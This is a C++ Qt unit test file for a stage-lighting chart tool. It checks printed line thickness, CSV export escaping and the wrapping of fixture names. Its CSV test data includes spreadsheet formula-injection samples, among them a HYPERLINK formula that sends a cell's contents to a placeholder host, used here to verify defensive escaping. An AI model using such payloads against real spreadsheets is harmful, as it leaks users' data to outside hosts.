// The chart's CSV fields, as scripts and spreadsheets take them, and a
// fixture's name on the page, in process.
#include "chartpages.h"
#include "csvchart.h"
#include "pagecanvas.h"
#include "switchdrawing.h"

#include <QImage>
#include <QPainter>
#include <QTest>

using brisolant::ChartPages;
using brisolant::CsvChart;
using brisolant::SwitchChart;

namespace {

SwitchChart::Chart chartOf(const QStringList& names, const QString& number = {}) {
    SwitchChart::Chart chart;
    for (const QString& name : names) {
        SwitchChart::Row& row = chart.rows.emplace_back();
        row.number = chart.rows.size();
        row.name = name.toStdString();
        row.fixtureNumber = number.toStdString();
    }
    return chart;
}

} // namespace

class WritersTest final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    // However small a label draws it, the block's outline stays 0.2 mm wide,
    // which a thermal printer's dots still print: the first run of ink down
    // the middle of the drawing, at 25.4 pixels a millimetre.
    void thinnestLine_data() {
        QTest::addColumn<double>("width"); // of the area, in millimetres
        QTest::newRow("on a small label") << 20.0;
        QTest::newRow("on a 12 mm tape") << 12.0;
    }
    void thinnestLine() {
        QFETCH(double, width);
        const qreal pixelsPerPoint = 25.4 * 25.4 / 72;
        const qreal points = width * 72 / 25.4;
        QImage image(QSize(640, 640), QImage::Format_RGB32);
        image.fill(Qt::white);
        QPainter painter(&image);
        painter.scale(pixelsPerPoint, pixelsPerPoint);
        brisolant::SwitchDrawing::draw(brisolant::PageCanvas(painter), QRectF(0, 0, points, points),
                                       SwitchChart::Row{});
        painter.end();
        const int x = qRound(points * pixelsPerPoint / 2);
        int y = 0;
        while (y < image.height() && qGray(image.pixel(x, y)) >= 128) {
            ++y;
        }
        int run = 0;
        while (y + run < image.height() && qGray(image.pixel(x, y + run)) < 128) {
            ++run;
        }
        QVERIFY2(run >= 5, qPrintable(QString::number(run)));
    }

    // The number and name fields of a fixture's row: what a spreadsheet would
    // take for a formula is text after an apostrophe, inside the quotes a
    // field needs anyway; a field's own leading apostrophe is doubled, so that
    // dropping one undoes the rule.
    void csv_data() {
        QTest::addColumn<QString>("number");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("fields");
        const auto row = [](const char* tag, const char* number, const char* name,
                            const char* fields) {
            QTest::newRow(tag) << QString::fromUtf8(number) << QString::fromUtf8(name)
                               << QString::fromUtf8(fields);
        };
        row("plain", "101", "Spot 1", "101,Spot 1");
        row("a comma", "", "Wash, left", ",\"Wash, left\"");
        row("a link", "", R"(=HYPERLINK("http://x/?"&A1,"Spot"))",
            R"x(,"'=HYPERLINK(""http://x/?""&A1,""Spot"")")x");
        row("plus", "", "+1+1", ",'+1+1");
        row("minus", "-5", "-", "'-5,'-");
        row("at, quoted for its comma", "", "@SUM(A1,A2)", ",\"'@SUM(A1,A2)\"");
        row("a tab first", "", "\t=1", ",'\t=1");
        row("a carriage return first", "", "\r=1", ",\"'\r=1\"");
        row("its own apostrophe", "", "'Spot", ",''Spot");
        row("a formula sign later", "", "Spot =1 -2", ",Spot =1 -2");
    }
    void csv() {
        QFETCH(QString, number);
        QFETCH(QString, name);
        QFETCH(QString, fields);
        QCOMPARE(CsvChart::render(chartOf({name}, number)).split('\n').value(1),
                 "1," + fields.toUtf8() + ",1,0,1,0 0 0 0 0 0 0 0 0,,dip9,");
    }

    void names_data() {
        QTest::addColumn<QStringList>("names");
        QTest::addColumn<int>("lines"); // of each
        const auto row = [](const char* tag, const QStringList& names, int lines) {
            QTest::newRow(tag) << names << lines;
        };
        const QString rechts = "ZQ02089 - 48W 8LEDs RGBW 4 in 1 Color Wash Moving Head #1 Rechts";
        const QString middle = "Moving head spot on truss 2 downstage over the orchestra pit %1 "
                               "of the rig, house left, the far side";
        row("one line at 8 points", {rechts.left(37)}, 1);
        row("just too long for one line", {rechts.left(42)}, 2);
        row("long, wrapped at a blank", {rechts, QString(rechts).replace("#1 Rechts", "#2 Links")},
            2);
        row("no blank to wrap at", {QString(rechts).remove(u' ')}, 2);
        row("too long for two lines, end kept", {middle.arg('A').repeated(2)}, 2);
        row("differing only in the middle", {middle.arg('A'), middle.arg('B')}, 2);
    }
    // A name's first line is its start, broken at a blank where it has one;
    // its last line ends with its end; different names never look alike.
    void names() {
        QFETCH(QStringList, names);
        QFETCH(int, lines);
        const ChartPages pages(chartOf(names), "t", QPageSize(QPageSize::A4));
        for (qsizetype i = 0; i < names.size(); ++i) {
            const QStringList shown = pages.nameLines(std::size_t(i));
            const QString& name = names[i];
            const QString& first = shown.first();
            const QString end = shown.last().section(u'\u2026', -1);
            QCOMPARE(shown.size(), lines);
            QVERIFY2(name.startsWith(first), qPrintable(first));
            QVERIFY(lines == 1 || !name.contains(u' ') || name.at(first.size()) == u' ');
            QVERIFY2(name.endsWith(end) && (end.size() >= 8 || end == shown.last()),
                     qPrintable(shown.last()));
            for (qsizetype j = 0; j < i; ++j) {
                QCOMPARE(pages.nameLines(std::size_t(j)) == shown, names[j] == name);
            }
        }
    }
};

QTEST_MAIN(WritersTest)
#include "tst_writers.moc"
